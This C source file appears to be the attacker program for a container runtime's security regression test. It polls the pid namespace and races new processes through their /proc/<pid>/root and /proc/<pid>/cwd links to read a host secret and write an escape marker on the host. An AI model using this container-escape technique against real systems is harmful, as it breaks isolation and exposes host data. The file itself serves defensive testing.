/* The attacker of cli/tests/security_review_process.rs: runs in the container for argv[2]
 * seconds, watching the pids the container's pid namespace hands out next, and tries to reach
 * the host's filesystem through /proc/<pid>/root and /proc/<pid>/cwd of each new process (the
 * runtime's child for an exec or a joining init, while it has not entered the container's mount
 * namespace). On success it writes "ESCAPED via <link>" into argv[1]/escaped, a host path that
 * does not exist in the container, and reads argv[1]/secret into argv[3] (a container path).
 * Built static: it runs in a busybox rootfs. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *hostdir;
static const char *report;

static int try_link(int pid, const char *link)
{
    char path[4096], buf[256];
    int fd, out;
    ssize_t n;

    snprintf(path, sizeof path, "/proc/%d/%s%s/secret", pid, link, hostdir);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    snprintf(path, sizeof path, "/proc/%d/%s%s/escaped", pid, link, hostdir);
    out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (out >= 0) {
        dprintf(out, "ESCAPED via /proc/%d/%s\n", pid, link);
        close(out);
    }
    out = open(report, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (out >= 0) {
        dprintf(out, "ESCAPED via /proc/%d/%s: read the host's secret %s\n", pid, link, buf);
        close(out);
    }
    return 1;
}

/* The pid the container's pid namespace handed out last. */
static int last_pid(void)
{
    char buf[32] = {0};
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return 1;
    if (read(fd, buf, sizeof buf - 1) < 0)
        buf[0] = 0;
    close(fd);
    return atoi(buf);
}

int main(int argc, char **argv)
{
    struct timespec start, now;
    int base, i, k;

    if (argc < 4)
        return 2;
    hostdir = argv[1];
    report = argv[3];
    base = last_pid();
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (i = 0;; i++) {
        for (k = 0; k <= 2; k++) {
            if (try_link(base + k, "root") || try_link(base + k, "cwd"))
                return 0;
        }
        if ((i & 63) == 0) {
            base = last_pid();
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (now.tv_sec - start.tv_sec >= atoi(argv[2]))
                return 0;
        }
    }
}
